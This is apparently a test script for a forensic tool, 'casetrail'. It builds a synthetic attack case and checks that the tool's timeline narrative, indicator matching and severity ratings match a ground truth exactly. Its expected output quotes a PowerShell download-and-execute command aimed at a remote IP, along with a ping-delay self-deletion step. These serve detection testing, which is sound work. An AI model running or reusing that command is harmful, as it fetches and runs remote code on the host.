#!/bin/sh
# t8300-analyze-reference.sh - the reference case end to end: its event
# logs (built from source by the corpus tools, or the disk image when `make
# corpus-image` has made one), its threat report through `casetrail ioc`,
# then `casetrail analyze`. The ground truth (ground-truth.json) must be met
# exactly: every step found, in order, at its time to the 100 ns; every IOC
# hit found; no high-severity finding outside the attack. Prints precision
# and recall (tests/t/analysis-eval.py).
. "$TOP_SRCDIR/tests/t/lib.sh"

MKEVTX=$TOP_BUILDDIR/corpus/mkevtx
MKPAYLOAD=$TOP_BUILDDIR/corpus/mkpayload
GEN=$TOP_SRCDIR/corpus/scenario/mkscenario.py
IMAGE=$TOP_BUILDDIR/corpus/out/reference/image.raw

[ -x "$MKEVTX" ] && [ -x "$MKPAYLOAD" ] ||
	{ make -C "$TOP_BUILDDIR" corpus/mkevtx corpus/mkpayload >/dev/null 2>&1 || true; }
[ -x "$MKEVTX" ] && [ -x "$MKPAYLOAD" ] ||
	{ echo "the corpus tools could not be built" >&2; exit 1; }

# Build the logs, threat report and ground truth before any test, so that a
# build without the EVTX parser can still skip cleanly.
mkdir -p ref/logs &&
"$MKPAYLOAD" ref/payload.exe &&
python3 "$GEN" ref/payload.exe ref &&
"$MKEVTX" ref/scenario.jsonl ref/logs >/dev/null ||
	{ echo "building the reference case failed" >&2; exit 1; }

test_expect_success 'ingest, match the threat report, analyse' '
	if [ -f "$IMAGE" ]; then
		echo "# using the disk image $IMAGE" &&
		{ casetrail ingest -q case.db "$IMAGE" || test $? -eq 1; }
	else
		echo "# no disk image (make corpus-image): using the event logs" &&
		{ casetrail ingest -q case.db ref/logs/*.evtx || test $? -eq 1; }
	fi &&
	test "$(sql case.db "SELECT count(*) FROM evtx")" -gt 1000 &&
	{ casetrail ioc case.db ref/threat-report.md >ioc.out 2>&1 || test $? -eq 1; } &&
	test "$(sql case.db "SELECT count(*) FROM indicator_hit")" -gt 0 &&
	casetrail analyze case.db >analyze.out &&
	cat analyze.out
'

test_expect_success 'the ground truth is met exactly (precision and recall 1)' '
	python3 "$TOP_SRCDIR/tests/t/analysis-eval.py" case.db ref/ground-truth.json >eval.out;
	rc=$? &&
	cat eval.out &&
	test $rc -eq 0
'
# Precision, recall and the step list, whether the test passed or not.
[ -f eval.out ] && cat eval.out

test_expect_success 'the narrative says it in order, every sentence citing records' '
	sql case.db "SELECT text FROM narrative n JOIN chain c ON c.id = n.chain_id WHERE c.id = (SELECT chain_id FROM chain_step GROUP BY chain_id ORDER BY count(*) DESC LIMIT 1) ORDER BY seq" >story &&
	cat story &&
	test_grep "^At 2024-03-13 14:00:00 UTC the Task Scheduler started the QuillEdit updater QEUpdate.exe (PID 5120)" story &&
	test_grep "started qeupdate_helper.exe (PID 6644), a file it had written 2 seconds earlier" story &&
	test_grep "decoded, the command reads \"IEX (New-Object Net.WebClient).DownloadString(.http://176.53.118.131/logo.png.)\"" story &&
	test_grep "cmd.exe /c ping 127.0.0.1 -n 3" story &&
	test "$(sql case.db "SELECT count(*) FROM narrative n WHERE NOT EXISTS (SELECT 1 FROM narrative_evidence e WHERE e.narrative_id = n.id)")" = 0
'

test_expect_success 'the benign look-alikes are context, not high severity' '
	test "$(sql case.db "SELECT severity FROM finding WHERE rule = \"updater-run\" AND title LIKE \"%PID 4312%\"")" = low &&
	sql case.db "SELECT severity FROM finding WHERE rule = \"powershell\" AND description LIKE \"%Get-Service%\"" >adm &&
	test "$(sort -u adm)" = info &&
	test "$(sql case.db "SELECT count(*) FROM finding WHERE rule = \"self-deletion\"")" = 1
'

test_done
